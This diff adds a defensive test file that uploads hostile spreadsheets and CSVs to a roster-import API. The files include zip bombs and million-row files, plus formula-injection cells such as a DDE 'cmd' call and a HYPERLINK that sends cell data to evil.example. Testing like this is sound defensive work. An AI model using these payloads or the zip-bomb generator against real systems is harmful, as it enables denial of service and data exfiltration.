@@ -1,0 +1,245 @@
+/**
+ * Hostile roster files uploaded to a real server process (POST /api/imports, multipart): zip bombs (honest and
+ * lying), CSVs of a million rows over and under the 50 MB upload limit, a cell at row 1,048,576, formula cells,
+ * GBK / UTF-16 / mixed encodings, empty and truncated files. Each must be refused — 4xx at upload, or the job
+ * ends `failed` with a Chinese message, or (formula cells) the row is refused into the error file — within
+ * 5 s of the upload, and the server's peak RSS (VmHWM) stays under 512 MB.
+ */
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { once } from 'node:events';
+import { createDeflateRaw, crc32 } from 'node:zlib';
+import iconv from 'iconv-lite';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import {
+  buildZip,
+  deflatedEntry,
+  GOOD_ROW,
+  HEADER,
+  inlineRow,
+  sheetXml,
+  workbookAround,
+  type RawZipEntry,
+} from '../src/server/modules/rosters/roster.test-support.js';
+import type { ImportJob } from '../src/common/imports.js';
+import { recordFigure } from './summary.js';
+import { fixtures, loginOver, peakRssMb, startServer, type ServerProcess } from './support.js';
+
+const REFUSE_WITHIN_MS = 5_000;
+const PEAK_RSS_LIMIT_MB = 512;
+
+let server: ServerProcess;
+let cookie: string;
+let unionId: number;
+let work: string;
+
+async function api<T>(method: string, url: string, body?: object): Promise<T> {
+  const response = await fetch(`${server.base}${url}`, {
+    method,
+    headers: { cookie, ...(body ? { 'content-type': 'application/json' } : {}) },
+    ...(body ? { body: JSON.stringify(body) } : {}),
+  });
+  if (response.status >= 300) throw new Error(`${method} ${url}: ${response.status} ${await response.text()}`);
+  return (await response.json()) as T;
+}
+
+beforeAll(async () => {
+  work = fs.mkdtempSync(path.join(os.tmpdir(), 'gonghui-hostile-'));
+  fs.mkdirSync(path.join(work, 'data'));
+  server = await startServer(path.join(work, 'data'), { LOG_LEVEL: 'warn' });
+  cookie = await loginOver(server.base);
+  const district = await api<{ id: number }>('POST', '/api/orgs', { parentId: 1, kind: 'district_federation', name: '恶意文件区总工会' });
+  const street = await api<{ id: number }>('POST', '/api/orgs', { parentId: district.id, kind: 'street_federation', name: '恶意文件街道' });
+  unionId = (await api<{ id: number }>('POST', '/api/orgs', { parentId: street.id, kind: 'grassroots_union', name: '恶意文件工会' })).id;
+}, 180_000);
+afterAll(async () => {
+  await server?.stop();
+  if (work) fs.rmSync(work, { recursive: true, force: true });
+});
+
+/** A sheet of `bytes` of repeated rows, deflated as it is generated. */
+async function bombSheet(bytes: number): Promise<RawZipEntry> {
+  const head = Buffer.from(
+    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
+      inlineRow(1, HEADER),
+  );
+  const close = Buffer.from('</sheetData></worksheet>');
+  const row = inlineRow(2, GOOD_ROW);
+  const block = Buffer.from(row.repeat(Math.floor((256 * 1024) / row.length)));
+  const blocks = Math.floor((bytes - head.length - close.length) / block.length);
+  const deflate = createDeflateRaw({ level: 9 });
+  const chunks: Buffer[] = [];
+  deflate.on('data', (c: Buffer) => chunks.push(c));
+  let crc = crc32(head);
+  deflate.write(head);
+  for (let i = 0; i < blocks; i++) {
+    crc = crc32(block, crc);
+    if (!deflate.write(block)) await once(deflate, 'drain');
+  }
+  crc = crc32(close, crc);
+  deflate.end(close);
+  await once(deflate, 'end');
+  return {
+    name: 'xl/worksheets/sheet1.xml',
+    data: Buffer.concat(chunks),
+    method: 8,
+    crc,
+    uncompressedSize: head.length + blocks * block.length + close.length,
+  };
+}
+
+/** Writes a CSV of `rows` copies of `row` after the header, streaming, and returns its path. */
+async function csvFile(name: string, rows: number, row: string): Promise<string> {
+  const file = path.join(work, name);
+  const out = fs.createWriteStream(file);
+  out.write(`\uFEFF${HEADER.join(',')}\n`);
+  const block = `${row}\n`.repeat(10_000);
+  for (let i = 0; i < rows; i += 10_000) if (!out.write(block)) await once(out, 'drain');
+  out.end();
+  await once(out, 'finish');
+  return file;
+}
+
+function bytesFile(name: string, bytes: Buffer | string): string {
+  const file = path.join(work, name);
+  fs.writeFileSync(file, bytes);
+  return file;
+}
+
+type Outcome = { name: string; refused: boolean; seconds: number; how: string };
+
+async function upload(name: string, file: string): Promise<Outcome> {
+  const started = Date.now();
+  const form = new FormData();
+  form.append('file', await fs.openAsBlob(file), name);
+  let response: Response;
+  try {
+    response = await fetch(`${server.base}/api/imports?orgId=${unionId}`, { method: 'POST', headers: { cookie }, body: form });
+  } catch (error) {
+    // The server may close the connection on an oversized upload: that is a refusal at upload too.
+    return { name, refused: true, seconds: (Date.now() - started) / 1000, how: `connection closed (${String(error).slice(0, 60)})` };
+  }
+  const text = await response.text();
+  if (response.status >= 400 && response.status < 500) {
+    const body = JSON.parse(text) as { code: string; message: string };
+    return {
+      name,
+      refused: /[\u4e00-\u9fff]/.test(body.message),
+      seconds: (Date.now() - started) / 1000,
+      how: `${response.status} ${body.code}: ${body.message}`,
+    };
+  }
+  if (response.status !== 202)
+    return { name, refused: false, seconds: (Date.now() - started) / 1000, how: `${response.status} ${text.slice(0, 200)}` };
+  let job = JSON.parse(text) as ImportJob;
+  while (job.status !== 'done' && job.status !== 'failed' && Date.now() - started < 60_000) {
+    await new Promise((r) => setTimeout(r, 50));
+    job = await api<ImportJob>('GET', `/api/imports/${job.id}`);
+  }
+  const seconds = (Date.now() - started) / 1000;
+  if (job.status === 'failed') return { name, refused: /[\u4e00-\u9fff]/.test(job.failure ?? ''), seconds, how: `failed: ${job.failure}` };
+  // A well-formed file with a formula in a cell: the row must not be imported as data.
+  return {
+    name,
+    refused: job.status === 'done' && job.imported === 0 && job.rejected > 0,
+    seconds,
+    how: `${job.status} imported ${job.imported} rejected ${job.rejected}`,
+  };
+}
+
+describe('hostile roster files', () => {
+  it('refuses every hostile file within 5 s of the upload, in bounded memory', async () => {
+    const bomb = await bombSheet(300 * 1024 * 1024);
+    const liarSheet = await bombSheet(200 * 1024 * 1024);
+    const clean = fs.readFileSync(path.join(fixtures, 'roster-clean.xlsx'));
+    const csvHeader = `${HEADER.join(',')}\r\n`;
+    const files: [string, () => Promise<string> | string][] = [
+      ['zip-bomb-300MB.xlsx', () => bytesFile('bomb.xlsx', buildZip(workbookAround(bomb)))],
+      [
+        'zip-bomb-liar.xlsx',
+        () => bytesFile('liar.xlsx', buildZip(workbookAround({ ...liarSheet, uncompressedSize: liarSheet.data.length * 10 }))),
+      ],
+      ['million-rows-100MB.csv', () => csvFile('big.csv', 1_100_000, GOOD_ROW.join(','))],
+      ['million-tiny-rows.csv', () => csvFile('tiny.csv', 1_100_000, '1')],
+      [
+        'row-1048576.xlsx',
+        () =>
+          bytesFile(
+            'far.xlsx',
+            buildZip(
+              workbookAround(
+                deflatedEntry(
+                  'xl/worksheets/sheet1.xml',
+                  sheetXml(inlineRow(1, HEADER) + inlineRow(2, GOOD_ROW) + inlineRow(1048576, GOOD_ROW)),
+                ),
+              ),
+            ),
+          ),
+      ],
+      [
+        'formula-cells.xlsx',
+        () =>
+          bytesFile(
+            'formula.xlsx',
+            buildZip(
+              workbookAround(
+                deflatedEntry(
+                  'xl/worksheets/sheet1.xml',
+                  sheetXml(
+                    inlineRow(1, HEADER) +
+                      `<row r="2"><c r="A2"><f>cmd|' /C calc'!A0</f><v>张三</v></c><c r="B2" t="inlineStr"><is><t>${GOOD_ROW[1]}</t></is></c><c r="C2"><f>HYPERLINK("http://evil.example/?x="&amp;B2,"13812345678")</f><v>13812345678</v></c></row>`,
+                  ),
+                ),
+              ),
+            ),
+          ),
+      ],
+      [
+        'formula-cells.csv',
+        () =>
+          bytesFile(
+            'formula.csv',
+            `${csvHeader}=cmd|' /C calc'!A0,${GOOD_ROW[1]},=HYPERLINK("http://evil.example","x"),女,全日制,@SUM(A1),2020-05-01\r\n`,
+          ),
+      ],
+      [
+        'mixed-utf8-gbk.csv',
+        () => bytesFile('mixed.csv', Buffer.concat([Buffer.from(csvHeader, 'utf8'), iconv.encode(`${GOOD_ROW.join(',')}\r\n`, 'gbk')])),
+      ],
+      [
+        'utf16-with-gbk-tail.csv',
+        () =>
+          bytesFile(
+            'utf16.csv',
+            Buffer.concat([iconv.encode(`\uFEFF${csvHeader}`, 'utf16le'), iconv.encode(`${GOOD_ROW.join(',')}\r\n`, 'gbk')]),
+          ),
+      ],
+      ['empty.xlsx', () => bytesFile('empty.xlsx', Buffer.alloc(0))],
+      ['empty.csv', () => bytesFile('empty.csv', Buffer.alloc(0))],
+      ['truncated.xlsx', () => bytesFile('truncated.xlsx', clean.subarray(0, Math.floor(clean.length / 2)))],
+      ['truncated-zip-header.xlsx', () => bytesFile('header.xlsx', clean.subarray(0, 30))],
+      ['not-a-roster.exe', () => bytesFile('x.exe', Buffer.from('MZ\u0090\u0000'))],
+    ];
+    const outcomes: Outcome[] = [];
+    for (const [name, make] of files) {
+      const file = await make();
+      outcomes.push(await upload(name, file));
+      fs.rmSync(file, { force: true });
+    }
+    const peak = peakRssMb(server.child.pid!);
+    for (const o of outcomes) console.log(`${o.refused ? 'refused' : 'ACCEPTED'} ${o.name} in ${o.seconds.toFixed(2)} s — ${o.how}`);
+    const refused = outcomes.filter((o) => o.refused).length;
+    const slowest = Math.max(...outcomes.map((o) => o.seconds));
+    recordFigure(
+      'hostile files',
+      `refused ${refused}/${outcomes.length}, slowest ${slowest.toFixed(2)} s, peak RSS ${peak} MB (server process VmHWM, limit ${PEAK_RSS_LIMIT_MB} MB)`,
+      import.meta.filename,
+    );
+    expect(outcomes.filter((o) => !o.refused)).toEqual([]);
+    expect(outcomes.filter((o) => o.seconds * 1000 > REFUSE_WITHIN_MS)).toEqual([]);
+    expect(peak).toBeLessThan(PEAK_RSS_LIMIT_MB);
+    // The server is still healthy afterwards.
+    expect((await fetch(`${server.base}/api/health`)).status).toBe(200);
+  });
+});
